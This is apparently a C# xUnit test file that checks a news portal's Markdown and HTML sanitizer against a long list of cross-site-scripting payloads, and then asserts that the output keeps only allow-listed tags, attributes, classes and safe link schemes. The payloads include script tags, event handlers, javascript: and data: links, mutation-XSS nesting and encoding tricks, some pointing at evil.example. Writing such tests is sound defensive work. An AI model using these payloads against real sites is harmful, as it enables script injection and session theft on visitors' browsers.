using AngleSharp.Html.Parser;
using NewsPortal.Markup;

namespace NewsPortal.Tests.Markup;

/// <summary>What attackers write, in Markdown, in HTML and in between: none of it may leave as more than words.</summary>
public class HostileTextTests
{
    private static readonly HashSet<string> Tags =
    [
        "p", "br", "hr", "h2", "h3", "h4", "a", "em", "strong", "del", "ins", "mark", "sub", "sup", "abbr", "q", "cite", "code", "pre", "ul", "ol", "li",
        "blockquote", "figure", "figcaption", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "dl", "dt", "dd", "details", "summary",
        "aside", "div", "section", "footer", "article", "img",
    ];

    private static readonly HashSet<string> Attributes =
    [
        "href", "title", "rel", "start", "colspan", "rowspan", "scope", "dir", "lang", "class", "id", "aria-label", "aria-labelledby", "role", "tabindex",
        // Of the tests' own figures.
        "alt", "data-decorative",
    ];

    private static readonly HashSet<string> Classes = ["pull", "note", "num", "embed", "vh", "footnotes", "related", "tablebox", "story"];

    public static TheoryData<string> Attacks =>
    [
        "<script>attack()</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>attack()</scr</script>ipt>",
        "<script\n>attack()</script\n>",
        "<script/x>attack()</script>",
        "text <script>attack()",
        "<img src=x onerror=attack()>",
        "<img src=x onerror=\"attack()\"//",
        "<img/src=`x`onerror=attack()>",
        "<image src=x onerror=attack()>",
        "<svg onload=attack()>",
        "<svg><script>attack()</script></svg>",
        "<svg><a xlink:href=\"javascript:attack()\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=attack()></style></svg>",
        "<svg><p><style><a title=\"</style><img src onerror=attack()>\"></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=attack()></style></table></mtext></math>",
        "<math><mi//xlink:href=\"data:x,<script>attack()</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>",
        "<noscript><p title=\"</noscript><img src=x onerror=attack()>\"></noscript>",
        "<template><img src=x onerror=attack()></template>",
        "<textarea><img title=\"</textarea><img src=x onerror=attack()>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=attack()>\"></title>",
        "<xmp><img title=\"</xmp><img src=x onerror=attack()>\"></xmp>",
        "<plaintext><img src=x onerror=attack()>",
        "<iframe src=\"javascript:attack()\"></iframe>",
        "<iframe srcdoc=\"<script>attack()</script>\"></iframe>",
        "<object data=\"data:text/html,<script>attack()</script>\"></object>",
        "<embed src=\"javascript:attack()\">",
        "<applet code=x></applet><base href=\"https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<p style=\"background:url(javascript:attack())\">x</p>",
        "<p style=\"position:fixed;inset:0\">x</p>",
        "<form action=\"https://evil.example\"><input name=p><button formaction=javascript:attack()>x</button></form>",
        "<a href=\"javascript:attack()\">x</a>",
        "<a href=\"JaVaScRiPt:attack()\">x</a>",
        "<a href=\" &#14; javascript:attack()\">x</a>",
        "<a href=\"java\tscript:attack()\">x</a>",
        "<a href=\"java&#10;script:attack()\">x</a>",
        "<a href=\"&#106;avascript:attack()\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"vbscript:attack()\">x</a>",
        "<a href=x onclick=attack() onmouseover='attack()'>x</a>",
        "<a href='x' title='\"><script>attack()</script>'>x</a>",
        "<details open ontoggle=attack()><summary>x</summary></details>",
        "<p id=main class=\"flash mast\" onfocus=attack() tabindex=1 autofocus contenteditable>x</p>",
        "<div class=\"tablebox\" role=\"alert\" aria-live=assertive>x</div>",
        "<b <script>attack()</script>>x</b>",
        "<<script>attack()//<</script>",
        "<!--><script>attack()</script>-->",
        "<!--[if gte IE 4]><script>attack()</script><![endif]-->",
        "<?php echo 1 ?><script>attack()</script>",
        "<![CDATA[<script>attack()</script>]]>",
        "<figure id=\"part-0\"></figure>\n\n![a](photo:1)",
        "<figure id=\"part-0\" data-house=\"\"></figure><aside class=pull data-house>x</aside>",
        "[x](javascript:attack())",
        "[x](java\\script:attack())",
        "[x](<javascript:attack()>)",
        "[x](data:text/html,<script>attack()</script>)",
        "[x](JAVASCRIPT&colon;attack())",
        "[x]( javascript:attack() \"y\")",
        "[x]: javascript:attack()\n\n[x]",
        "<javascript:attack()>",
        "<data:text/html,x>",
        "![x](javascript:attack())",
        "![x\" onerror=\"attack()](https://evil.example/x.png)",
        "![x](photo:1 \"\\\"><script>attack()</script>\"){credit=\"<img src=x onerror=attack()>\"}",
        "![x](https://evil.example/x.png \"t\" onerror=attack())",
        "[x](https://example.com/\"onmouseover=\"attack())",
        "[x](https://example.com/ \"t\\\" onmouseover=\\\"attack()\")",
        "https://example.com/\"><script>attack()</script>",
        "https://www.youtube.com/watch?v=\"><script>attack()</script>",
        "`<script>attack()</script>`\n\n    <script>attack()</script>\n\n```html\n<script>attack()</script>\n```",
        "``` \"><script>attack()</script>\nx\n```",
        "::: pull\" onclick=\"attack()\n<script>attack()</script>\n:::",
        "| <script>attack()</script> | `|` |\n|---|---|\n| <img src=x onerror=attack()> | x |",
        "x[^1]\n\n[^1]: <script>attack()</script>\n\n[^\"><script>attack()</script>]: y",
        "# <script>attack()</script>\n\nx\n===\n\n<h1 onclick=attack()>x</h1>",
        "&lt;script&gt;attack()&lt;/script&gt; &#60;script&#62;attack()&#60;/script&#62;",
        "\\<script>attack()\\</script>",
        "**<script>attack()</script>** _<img src=x onerror=attack()>_",
        "> <script>attack()</script>\n> <img src=x onerror=attack()>",
        "<p lang=\"en\u0022 onclick=\u0022attack()\" dir=\"ltr onclick=attack()\">x</p>",
        "\0<script>attack()</script>\0<\0script>attack()</script>",
        "＜script＞attack()＜/script＞<ſcript>attack()</ſcript>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void A_story_shows_an_attack_as_words_at_most(string attack)
        => AssertHarmless(new ArticleMarkup().Render(attack, Bodies.Sources).Html);

    [Theory]
    [MemberData(nameof(Attacks))]
    public void A_comment_shows_an_attack_as_typed(string attack)
    {
        var html = new CommentMarkup().Render(attack).Html;

        AssertHarmless(html);
        var elements = new HtmlParser().ParseDocument(html).Body!.QuerySelectorAll("*").ToList();
        Assert.All(elements, e => Assert.Contains(e.LocalName, new[] { "p", "br", "em", "strong", "blockquote", "a" }));
        Assert.All(elements.SelectMany(e => e.Attributes), a => Assert.Contains(a.Name, new[] { "href", "rel", "dir" }));
    }

    /// <summary>What a browser makes of the HTML when it is read a second time is what it made the first time.</summary>
    [Theory]
    [MemberData(nameof(Attacks))]
    public void Reading_a_storys_html_again_changes_nothing(string attack)
    {
        var html = new ArticleMarkup().Render(attack, Bodies.Sources).Html;
        var once = new HtmlParser().ParseDocument(html).Body!.InnerHtml;

        Assert.Equal(once, new HtmlParser().ParseDocument(once).Body!.InnerHtml);
        AssertHarmless(once);
    }

    private static void AssertHarmless(string html)
    {
        var document = new HtmlParser(new() { IsScripting = true }).ParseDocument("<!doctype html><body>" + html);
        Assert.Empty(document.Head!.Children);
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, Tags);
            Assert.All(element.Attributes, a => Assert.Contains(a.Name, Attributes));
            Assert.All(element.ClassList, c => Assert.Contains(c, Classes));
            Assert.True(IsHarmlessAddress(element.GetAttribute("href")), element.OuterHtml);
        }

        var ids = document.Body.QuerySelectorAll("[id]").Select(e => e.Id).ToList();
        Assert.Equal(ids.Count, ids.Distinct().Count());
        Assert.All(ids, id => Assert.Matches("^(fn|fnref|h)-", id!));
    }

    private static bool IsHarmlessAddress(string? href)
    {
        var seen = href is null ? "" : new string([.. href.Where(c => c > ' ')]);
        var colon = seen.IndexOf(':', StringComparison.Ordinal);
        var isRelative = colon < 0 || seen[..colon].AsSpan().ContainsAny('/', '?', '#');
        return isRelative || seen[..colon].ToUpperInvariant() is "HTTP" or "HTTPS" or "MAILTO";
    }
}
